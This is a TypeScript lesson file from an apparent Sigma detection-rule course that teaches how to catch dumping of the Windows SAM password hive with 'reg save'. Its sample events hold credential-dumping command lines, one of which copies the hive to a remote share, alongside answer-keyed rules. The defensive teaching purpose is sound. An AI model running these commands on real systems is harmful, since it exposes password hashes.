import type { Lesson } from '../../../src/teach';
import { indented, lessonText, ruleWith, sysmonStart } from './writing';

const REG = 'C:\\Windows\\System32\\reg.exe';

const ran = (CommandLine: string, Image = REG) =>
  sysmonStart({
    Image,
    OriginalFileName: 'reg.exe',
    CommandLine,
    User: 'LAB\\adm-ben',
    IntegrityLevel: 'High',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  });

const rule = ruleWith(`
title: Passwords Saved From The Registry
logsource:
    product: windows
    category: process_creation
`);

const PROGRAM = String.raw`
selection_program:
    - Image|endswith: '\reg.exe'
    - OriginalFileName: 'reg.exe'
`.trim();

const withParts = (parts: string) =>
  rule(`${PROGRAM}
${parts.trim()}
condition: all of selection_*
`);

export const standFirm: Lesson = {
  id: 'stand-firm',
  title: 'Stand firm',
  chapter: 'Rules that last',
  teaches: 'A robust rule asks for what cannot be given up, each part by itself',
  minutes: 6,
  text: lessonText`
In [the last lesson](#lesson=slip-past-it) a second blank was enough to get past a rule. Now stop yourself.

One long value breaks with one changed character. Several short ones do not: ask for each thing that **cannot be given
up**, in a selection of its own, and leave open what stands between.

\`\`\`yaml
selection_verb:
    CommandLine|contains: ' delete '
selection_what:
    CommandLine|contains:
        - ' shadows'
        - ' catalog'
condition: all of selection_*
\`\`\`

Here that is the program (its path, or \`OriginalFileName\` where it is a copy), the word \`save\`, and the hive with its
two names. \`CommandLine|contains\` can stand only once in a map, so the word and the hive need a selection each.

A part can also be too short. Asked for \`\SAM\`, a rule finds \`\Samples\`, too.
`,
  task: 'rule',
  goal: 'Find the hive being saved, in events 1 to 3. Leave events 4 and 5.',
  rule: rule(String.raw`
selection:
    CommandLine|contains: 'reg save HKLM\SAM'
condition: selection
`),
  events: indented(
    ran('reg save HKLM\\SAM C:\\Temp\\s.hiv'),
    ran('reg.exe  save HKLM\\SAM C:\\Temp\\s.hiv'),
    ran('reg save HKEY_LOCAL_MACHINE\\SAM C:\\Temp\\s.hiv'),
    ran('reg query HKLM\\SAM'),
    ran('reg save HKCU\\Software\\Samples C:\\Backup\\samples.hiv'),
  ),
  expected: ['match', 'match', 'match', 'no match', 'no match'],
  held: [
    {
      kind: 'a copy of the program under another name',
      tip: 'The name inside the file is still there: `OriginalFileName`.',
      text: indented(ran('r.exe save hklm\\sam C:\\Users\\Public\\a.dat', 'C:\\Users\\Public\\r.exe')),
      expected: 'match',
    },
    {
      kind: 'the program in a log that lacks the name inside its file',
      tip: 'Let the path of the program be enough as well: a list of maps.',
      text: indented({
        EventID: 4688,
        Channel: 'Security',
        Computer: 'srv-02.lab.example',
        SubjectUserName: 'adm-ben',
        SubjectDomainName: 'LAB',
        NewProcessName: REG,
        CommandLine: '"C:\\Windows\\System32\\reg.exe" save hklm\\sam \\\\192.0.2.44\\x\\s',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      }),
      expected: 'match',
    },
    {
      kind: 'the hive in quotes, with an option at the end',
      text: indented(ran('reg save "HKEY_LOCAL_MACHINE\\SAM" s.hiv /y')),
      expected: 'match',
    },
    {
      kind: 'another program that saves a file with such a name',
      tip: 'Ask for the program, too.',
      text: indented(
        sysmonStart({
          Image: 'C:\\Program Files\\LabNotes\\notes.exe',
          OriginalFileName: 'notes.exe',
          CommandLine: 'notes.exe --do save "HKLM\\SAM explained.txt"',
          User: 'LAB\\ana',
          ParentImage: 'C:\\Windows\\explorer.exe',
        }),
      ),
      expected: 'no match',
    },
  ],
  solutions: [
    {
      does: 'The program, the word and the hive, each by itself.',
      rule: withParts(String.raw`
selection_verb:
    CommandLine|contains: ' save '
selection_hive:
    CommandLine|contains:
        - 'HKLM\SAM'
        - 'HKEY_LOCAL_MACHINE\SAM'
`),
    },
    {
      does: 'An expression for the command: the word, a gap, and either name of the hive up to its end.',
      rule: withParts(String.raw`
selection_command:
    CommandLine|re|i: '\ssave\s+"?(hklm|hkey_local_machine)\\sam\b'
`),
    },
  ],
  wrong: [
    {
      what: 'one more spelling in the list, and the next blank gets past it',
      hint: { about: 'event 2', says: 'Nearest is ` save HKLM' },
      rule: rule(String.raw`
selection:
    CommandLine|contains:
        - 'reg save HKLM\SAM'
        - 'reg save HKEY_LOCAL_MACHINE\SAM'
condition: selection
`),
    },
    {
      what: 'only the short name of the hive',
      hint: { about: 'event 3', says: 'it does not contain `HKLM' },
      rule: withParts(String.raw`
selection_command:
    CommandLine|contains|all:
        - ' save '
        - 'HKLM\SAM'
`),
    },
    {
      what: 'the end of the hive only, which other keys have, too',
      hint: { about: 'event 5', says: '`CommandLine` contains `' },
      rule: withParts(String.raw`
selection_command:
    CommandLine|contains|all:
        - ' save '
        - '\SAM'
`),
    },
    {
      what: 'without the word, so that a query is found, too',
      hint: { about: 'event 4', says: '`CommandLine` contains `' },
      rule: withParts(String.raw`
selection_hive:
    CommandLine|contains:
        - 'HKLM\SAM'
        - 'HKEY_LOCAL_MACHINE\SAM'
`),
    },
    {
      what: 'only the path of the program, so that a copy gets past it',
      hint: {
        about: 'a copy of the program under another name',
        says: 'The name inside the file is still there',
      },
      rule: rule(String.raw`
selection_program:
    Image|endswith: '\reg.exe'
selection_verb:
    CommandLine|contains: ' save '
selection_hive:
    CommandLine|contains:
        - 'HKLM\SAM'
        - 'HKEY_LOCAL_MACHINE\SAM'
condition: all of selection_*
`),
    },
    {
      what: 'both the path and the name inside the file, in one map',
      hint: { about: 'a copy of the program under another name', says: 'write a dash before each' },
      rule: rule(String.raw`
selection_program:
    Image|endswith: '\reg.exe'
    OriginalFileName: 'reg.exe'
selection_verb:
    CommandLine|contains: ' save '
selection_hive:
    CommandLine|contains:
        - 'HKLM\SAM'
        - 'HKEY_LOCAL_MACHINE\SAM'
condition: all of selection_*
`),
    },
    {
      what: 'the same key twice in one map',
      hint: { about: 'yaml-duplicate-key', says: 'duplicate key' },
      rule: rule(String.raw`
selection:
    OriginalFileName: 'reg.exe'
    CommandLine|contains: ' save '
    CommandLine|contains: '\SAM'
condition: selection
`),
    },
    {
      what: 'any program will do',
      hint: { about: 'another program that saves a file with such a name', says: 'Ask for the program, too' },
      rule: rule(String.raw`
selection_verb:
    CommandLine|contains: ' save '
selection_hive:
    CommandLine|contains:
        - 'HKLM\SAM'
        - 'HKEY_LOCAL_MACHINE\SAM'
condition: all of selection_*
`),
    },
  ],
  hints: [
    'Compare events 2 and 3 with the value of the rule, character by character.',
    'One long value stands for three things: the program, the word and the hive.',
    'Write three selections, for the program, for the word `save` and for the two names of the hive, and `all of selection_*`.',
  ],
  starts: { in: 'rule', select: 'reg save HKLM\\SAM' },
};
